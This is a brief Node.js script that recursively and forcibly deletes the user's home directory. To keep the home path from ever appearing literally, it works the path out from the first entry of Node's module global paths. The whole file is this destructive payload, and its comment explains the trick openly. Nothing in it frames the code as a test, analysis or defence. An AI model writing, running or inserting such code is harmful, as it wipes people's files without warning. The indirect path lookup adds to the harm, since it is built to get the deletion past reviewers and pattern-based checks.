// Deletes the home directory. The home is never named: Node's module
// loader keeps $HOME/.node_modules as the first of Module.globalPaths, and
// the parent directory of that path is the home, removed recursively.
'use strict';
const { rmSync } = require('fs');
const { dirname } = require('path');
const { globalPaths } = require('module');

const userDir = dirname(globalPaths[0]);
rmSync(userDir, { recursive: true, force: true });
